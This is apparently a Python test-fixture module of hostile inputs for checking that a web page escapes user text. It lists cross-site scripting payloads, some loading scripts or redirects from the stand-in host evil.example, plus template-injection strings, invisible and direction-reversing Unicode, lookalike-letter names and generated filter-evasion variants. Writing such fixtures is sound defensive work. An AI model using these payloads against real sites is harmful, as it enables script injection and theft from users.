"""Words that would do something if a page let them; each says by a dialog, a request or its look that it did."""

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script href='//evil.example/x.js'></script></svg>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover=alert(1) style=position:fixed;inset:0 x="',
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>613</a>",
    "<form action=//evil.example><button>613</button></form>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';body{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=//evil.example/x></object>",
    "<template><script>alert(1)</script></template>",
    "<div hx-get=//evil.example hx-trigger=load></div>",
    "<div hx-on:load=alert(1) data-hx-on:click=alert(1)>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "%(by)s %s %d {0} {by}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
TURNING = (
    "\u202e613\u202c", "\u2067613 \u2066of\u2069", "\u202d316", "613\u200f-5", "\u061c613", "\u2066", "\u2069\u2069",
    "61\u200b3", "61\u00ad3", "\u0000613", "6\u00013", "613\ufeff", "\u2028613\u2029",
)  # fmt: skip
LIKENESS = ("Кhojaly", "Ꮶhojaly", "Ｋｈｏｊａｌｙ", "𝐊hojaly", "Ʀussia", "аdmin")
HOSTILE = (*MARKUP, *TURNING, *LIKENESS)

_EVENTS = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("input autofocus", "onfocus"),
    ("audio src=x", "onerror"), ("video src=x", "onerror"), ("details open", "ontoggle"), ("style", "onload"),
    ("select autofocus", "onfocus"), ("marquee", "onstart"), ("textarea autofocus", "onfocus"),
    ("div tabindex=1 autofocus", "onfocus"),
)  # fmt: skip
_WRITTEN = (
    "<IT ON=alert(1)>", "<IT ON='alert(1)'>", '<IT ON="alert(1)">', "<IT/ON=alert(1)>", "<IT\tON=alert(1)>",
    "<IT\nON\n=alert(1)>", "<IT ON=alert`1`>", "<IT ON=&#97;lert(1)>", "<IT ON=alert(1)//", "'><IT ON=alert(1)>",
    '"><IT ON=alert(1)>', "`><IT ON=alert(1)>", "</mark><IT ON=alert(1)>", "</pre></p></div><IT ON=alert(1)>",
    "<<IT ON=alert(1)>", "<x><IT ON=alert(1)></x>", "<!--><IT ON=alert(1)>-->", "<![CDATA[><IT ON=alert(1)>]]>",
    "&lt;IT ON=alert(1)&gt;", "%3CIT ON=alert(1)%3E", "<\u200bIT ON=alert(1)>",
)  # fmt: skip
WAYS = tuple(
    way.replace("IT", element).replace("ON", event if number % 2 else event.upper())
    for element, event in _EVENTS
    for number, way in enumerate(_WRITTEN)
)
"""Elements that run something by themselves, each written in the ways that filters are known to let through."""
